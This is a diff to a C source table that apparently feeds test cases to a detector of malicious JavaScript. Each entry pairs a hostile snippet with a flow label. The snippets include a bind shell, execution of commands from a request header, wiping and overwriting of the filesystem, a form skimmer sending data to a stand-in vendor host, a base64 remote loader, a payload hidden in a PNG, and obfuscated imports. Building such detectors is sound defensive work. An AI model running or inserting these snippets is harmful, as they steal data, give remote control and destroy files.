@@ -113,6 +113,12 @@ static const struct shape shapes[] = {
 	{"a server that is a shell", "require('net').createServer(s => { const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(4000);", FACT_FLOW, "net>exec", NULL},
 	{"a handler that runs a header", "exports.h = function (req, res) { res.end(String(require('child_process').execSync(req.headers['x-t']))); };", FACT_FLOW, "request>exec", NULL},
 	{"everything is removed", "['/', process.env.HOME].forEach(d => require('fs').rmSync(d, { recursive: true, force: true }));", FACT_WIPE, "fs.rmSync", NULL},
+	{"a list by a borrowed method", "var v = [].slice.call(document.querySelectorAll('input')).map(function (i) { return i.value; }).join(); new Image().src = '//m1.vendor.example/g?d=' + btoa(v);", FACT_FLOW, "form>net", "m1.vendor.example"},
+	{"decoded by the window", "!function (e) { var t = e.atob('dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBzOi8vbTIudmVuZG9yLmV4YW1wbGUveC5qcyc7'); e.setTimeout(t, 9); }(window);", FACT_FLOW, "net>code", "m2.vendor.example"},
+	{"code behind a picture", "const b = require('fs').readFileSync(require.resolve('./logo.png')); eval(b.subarray(b.lastIndexOf('IEND') + 8).toString());", FACT_FLOW, "own>code", "./logo.png"},
+	{"run by whatever was loaded", "fetch('https://m3.vendor.example').then(r => r.text()).then(t => require('./a').pick('vm').runInThisContext(t));", FACT_FLOW, "net>code", NULL},
+	{"every file gets the same text", "const fs = require('fs'); const w = d => { for (const n of fs.readdirSync(d)) { const p = d + '/' + n; fs.statSync(p).isDirectory() ? w(p) : fs.writeFileSync(p, 'x'); } }; ['/', require('os').homedir()].forEach(d => w(d));",
+		FACT_WIPE, "fs.writeFileSync", NULL},
 	{"swapped in place", "const f = (k, h) => { const s = [...Array(256).keys()]; let j = 0, o = ''; const d = Buffer.from(h, 'hex'); for (let i = 0; i < 256; i++) { j = (j + s[i] + k.charCodeAt(i % k.length)) & 255; [s[i], s[j]] = [s[j], s[i]]; }\n"
 		"for (let a = 0, b = 0, n = 0; n < d.length; n++) { a = (a + 1) & 255; b = (b + s[a]) & 255; [s[a], s[b]] = [s[b], s[a]]; o += String.fromCharCode(d[n] ^ s[(s[a] + s[b]) & 255]); } return o; };\n"
 		"require(f('k9', 'bfb2d92e963fab0d4fd101179c')).exec('id');", FACT_IMPORT, "child_process", NULL},
